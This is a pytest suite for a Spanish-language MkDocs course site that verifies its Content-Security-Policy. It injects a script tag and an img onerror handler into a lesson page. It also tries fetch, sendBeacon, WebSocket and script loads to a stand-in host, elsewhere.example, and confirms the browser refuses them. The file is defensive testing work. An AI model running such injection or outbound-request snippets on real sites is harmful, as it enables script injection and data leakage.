"""Pages run our own code only, and send nothing to anybody."""

import re
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest
from bs4 import BeautifulSoup
from mkdocs.config.defaults import MkDocsConfig
from mkdocs.exceptions import PluginError
from playwright.sync_api import Page, Route, expect

from tests.site import pages
from tests.site.conftest import Reader
from tests.site.watch import watch
from theme import csp
from theme.hooks import policy

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
LESSON = "/es/latest/lessons/first-gradient/"
ASSETS = pages.ROOT / "theme" / "assets"
UNSAFE = re.compile(  # what makes HTML or code of a text
    r"innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|document\.write"
    r"|parseFromString\([^;]*text/html|srcdoc|\beval\(|new Function|setTimeout\(\s*[\"'`]"
)


def rules(page: str) -> dict[str, list[str]]:
    """Give the policy that a page carries, directive by directive."""
    parts = (rule.split() for rule in META.findall(page)[0].split("; "))
    return {name: values for name, *values in parts}


def test_policy_comes_before_all_that_it_rules(address: str) -> None:
    """Every page carries one policy, after its character set and before anything it loads."""
    html = pages.html(address)
    assert len(META.findall(html)) == 1
    before = html[: META.search(html).start()]  # type: ignore[union-attr]
    assert re.findall(r"<(\w+)", before.partition("<head>")[2]) == ["meta"]
    assert len(before.encode()) < 1024  # where a browser looks for the character set


def test_policy_is_one_for_all_pages_of_the_course() -> None:
    """A reader goes from page to page in one document, under the policy of the first."""
    assert len({META.findall(pages.html(path))[0] for path in pages.every_page()}) == 1


def test_policy_lets_no_unknown_code_run(address: str) -> None:
    """Nothing is allowed by default, and inline code only if it is known by its digest."""
    found = rules(pages.html(address))
    assert found["default-src"] == ["'none'"]
    for name in ("script-src", "style-src"):
        assert [value for value in found[name] if not value.startswith("'sha256-")] == ["'self'"]
    everything = [value for values in found.values() for value in values]
    assert not [value for value in everything if "unsafe" in value or "*" in value.split(":")[0]]


def test_policy_lets_only_the_reader_s_own_machine_be_asked() -> None:
    """Beside the site, a page may connect to this machine and to no other."""
    hosts = {value.rpartition("/")[2] for value in rules(pages.html(LESSON))["connect-src"]}
    assert hosts == {"'self'", "127.0.0.1:*", "localhost:*"}


def test_pages_hold_no_style_or_handler_of_their_own(address: str) -> None:
    """No element has a `style` or an `on…` attribute, which the policy would refuse."""
    soup = BeautifulSoup(pages.html(address), "html.parser")
    marked = [tag for tag in soup.find_all(True) for name in tag.attrs if refused(name)]
    assert marked == []


def refused(attribute: str) -> bool:
    """Tell whether the policy refuses what an attribute says."""
    return attribute == "style" or attribute.startswith("on")


@pytest.mark.parametrize("policy", [True, False])
def test_injected_code_is_refused(reader: Reader, policy: bool) -> None:
    """A script, a handler or a style that is put into a page does nothing, thanks to the policy."""
    page = reader()
    page.route(f"**{LESSON}", lambda route: inject(route, policy))
    page.goto(LESSON, wait_until="networkidle")
    assert page.evaluate("[window.script, window.handler]") == [None if policy else 1] * 2
    colour = page.locator("#styled").evaluate("element => getComputedStyle(element).color")
    assert (colour == "rgb(1, 2, 3)") is not policy


def inject(route: Route, policy: bool) -> None:
    """Add to a page what an attacker would."""
    attack = (
        "<script>window.script = 1</script><p id='styled' style='color: rgb(1, 2, 3)'>a</p>"
        "<img src='data:,' onerror='window.handler = 1'>"
    )
    html = route.fetch().text().replace("</article>", f"{attack}</article>")
    assert attack in html
    html = html if policy else META.sub("", html)
    route.fulfill(body=html, content_type="text/html")


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://elsewhere.example/')",
        "navigator.sendBeacon('https://elsewhere.example/')",
        "new WebSocket('wss://elsewhere.example/')",
        "new Image().src = 'https://elsewhere.example/x.png'",
        "document.head.append(Object.assign(document.createElement('script'), "
        "{src: 'https://elsewhere.example/x.js'}))",
    ],
)
def test_page_cannot_ask_another_host(reader: Reader, site: str, code: str) -> None:
    """Whatever runs in a page, the browser lets nothing out to another host."""
    page = reader()
    page.goto("/es/latest/404.html", wait_until="networkidle")
    log = watch(page, site)
    with page.expect_console_message(lambda message: message.type == "error"):
        page.evaluate(f"async () => {{ try {{ await ({code}) }} catch {{}} }}")
    assert any("Content Security Policy" in error for error in log.errors)


def test_pages_work_where_the_host_sends_the_policy_too(reader: Reader, site: str) -> None:
    """As a header the policy rules the worker of the search as well, and breaks nothing."""
    page = reader()
    policy = META.findall(pages.html(LESSON))[0]
    page.route("**", lambda route: send(route, policy))
    log = watch(page, site)
    walk(page)
    page.unroute_all(behavior="wait")  # answers may still be on their way
    assert log.problems() == []


def send(route: Route, policy: str) -> None:
    """Answer as a host does that sends the policy with everything."""
    answer = route.fetch()
    route.fulfill(response=answer, headers={**answer.headers, "content-security-policy": policy})


def walk(page: Page) -> None:
    """Use a lesson: search, change the colours, go on to the next page in the same document."""
    page.goto(LESSON, wait_until="networkidle")
    page.evaluate("window.same = true")
    page.locator(".md-search__input").click()
    page.keyboard.type("backward")
    page.locator(".md-search-result__link").first.wait_for()
    page.keyboard.press("Escape")
    page.get_by_title("Cambiar a modo oscuro").click()
    page.locator(".md-footer__link--next").click()
    page.wait_for_url("**/create-tensors/")
    expect(page.locator(".md-content h1")).to_contain_text("Crear tensores")
    assert page.evaluate("window.same") is True


def test_walk_in_one_document_breaks_no_rule(reader: Reader, site: str) -> None:
    """The policy of the first page lets the next ones work."""
    page = reader(color_scheme="light")
    log = watch(page, site)
    walk(page)
    assert log.problems() == []


def test_scripts_make_no_html_of_text() -> None:
    """No script of ours turns text into HTML or into code."""
    found = {
        f"{script.name}: {match}"
        for script in ASSETS.rglob("*.js")
        for match in UNSAFE.findall(script.read_text(encoding="utf-8"))
    }
    assert found == set()


@pytest.mark.parametrize(
    "code",
    [
        "a.innerHTML = x",
        "parser.parseFromString(x, 'text/html')",
        "document.write(x)",
        "eval(x)",
        "setTimeout('x', 1)",
        "new Function(x)",
    ],
)
def test_html_made_of_text_is_found(code: str) -> None:
    """Each way of turning text into HTML or into code is found."""
    assert UNSAFE.search(code)


def test_digest_is_that_of_the_code_alone() -> None:
    """Code in a page is known by its digest; data and files need none."""
    page = (
        '<script>let a = 1</script><script src="x.js"></script><style>p {}</style>'
        '<script type="application/ld+json">{}</script><script type="application/json">1</script>'
    )
    policy = csp.policy([page])
    assert policy.count("'sha256-") == 2
    # printf 'let a = 1' | openssl dgst -sha256 -binary | base64
    assert "script-src 'self' 'sha256-LAfYd7pbFUgwfQu8b4q135PeTG2z+/coPEUYCd74eCQ=';" in policy


def test_page_without_a_place_for_the_policy_is_an_error() -> None:
    """A page that does not say its character set cannot carry the policy."""
    with pytest.raises(ValueError, match="at the start of its head"):
        csp.protect("<html><head></head></html>", "default-src 'none'")


def built(tmp_path: Path, page: str, site_url: str) -> Path:
    """Give a page of a small site after the hook has seen it."""
    file = tmp_path / "index.html"
    file.write_text(page, encoding="utf-8")
    settings = {"site_dir": str(tmp_path), "site_url": site_url, "dev_addr": "127.0.0.1:8000"}
    policy.on_post_build(cast(MkDocsConfig, SimpleNamespace(**settings)))
    return file


@pytest.mark.parametrize(
    ("site_url", "carried"), [("https://a.example/es/", 1), ("http://127.0.0.1:8000/es/", 0)]
)
def test_page_that_is_being_edited_may_reload(tmp_path: Path, site_url: str, carried: int) -> None:
    """A published page carries the policy; one that mkdocs reloads by its own script does not."""
    page = built(tmp_path, csp.CHARSET, site_url).read_text(encoding="utf-8")
    assert len(META.findall(page)) == carried


def test_page_without_charset_is_named(tmp_path: Path) -> None:
    """The build says which page cannot carry the policy."""
    with pytest.raises(PluginError, match=r"index\.html: a page says"):
        built(tmp_path, "<html></html>", "https://a.example/")
